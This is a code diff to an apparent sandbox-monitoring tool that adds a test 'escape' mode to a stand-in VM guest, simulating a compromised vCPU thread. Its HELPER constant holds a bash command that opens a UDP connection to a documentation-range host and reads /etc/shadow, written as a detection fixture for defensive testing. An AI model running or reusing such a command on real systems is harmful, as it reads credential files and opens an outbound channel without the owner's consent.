@@ -4,6 +4,7 @@ use sandtrace_sys::seccomp;
 use sandtrace_sys::tap::Tap;
 use std::fs::{File, OpenOptions};
 use std::os::fd::AsFd;
+use std::process::{Command, Stdio};
 use std::time::Duration;
 
 /// Taps and drives of one VM.
@@ -32,8 +33,8 @@ impl Machine {
     /// Starts what stands for the guest. Its kernel's command line says what
     /// it sends: `standin.delay_ms`, `standin.gap_ms` and `standin.frames`; and
     /// with `standin.forbidden_ms` when its vCPU meets its seccomp filter, or with
-    /// `standin.confined_ms` when all threads get one that they do not meet. It
-    /// sends on every tap. Its thread has the name of the real VMM's `vcpu`.
+    /// `standin.confined_ms` when all threads get one that they do not meet, and
+    /// with `standin.escape_ms` when its guest gets out. It sends on every tap. Its thread has the name of the real VMM's `vcpu`.
     pub(super) fn start(&self, vcpu: &str) -> Result<(), String> {
         let number = |name: &str| {
             let words = self.boot_args.split_whitespace();
@@ -42,6 +43,9 @@ impl Machine {
         };
         if let Some(after) = number("standin.forbidden_ms") {
             meet_filter(Duration::from_millis(after))?;
+        }
+        if let Some(after) = number("standin.escape_ms") {
+            escape(vcpu, Duration::from_millis(after))?;
         }
         let taps = self.taps.iter().map(|tap| tap.as_fd().try_clone_to_owned());
         let taps: Result<Vec<_>, _> = taps.map(|tap| tap.map(File::from)).collect();
@@ -86,6 +90,23 @@ fn meet_filter(after: Duration) -> Result<(), String> {
         std::io::Result::Ok(rustix::process::getpgid(None)?)
     });
     confined
+        .map(drop)
+        .map_err(|error| format!("start a thread: {error}"))
+}
+
+/// What a guest does that got hold of its VMM: one process connects out, opens
+/// what it should not, and stays.
+const HELPER: &str = "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow; exec sleep 600";
+
+/// A vCPU's thread that starts a helper after a while.
+fn escape(vcpu: &str, after: Duration) -> Result<(), String> {
+    let vcpu = std::thread::Builder::new().name(vcpu.to_owned());
+    let taken = vcpu.spawn(move || {
+        std::thread::sleep(after);
+        let mut helper = Command::new("/bin/bash");
+        helper.args(["-c", HELPER]).stdin(Stdio::null()).status()
+    });
+    taken
         .map(drop)
         .map_err(|error| format!("start a thread: {error}"))
 }
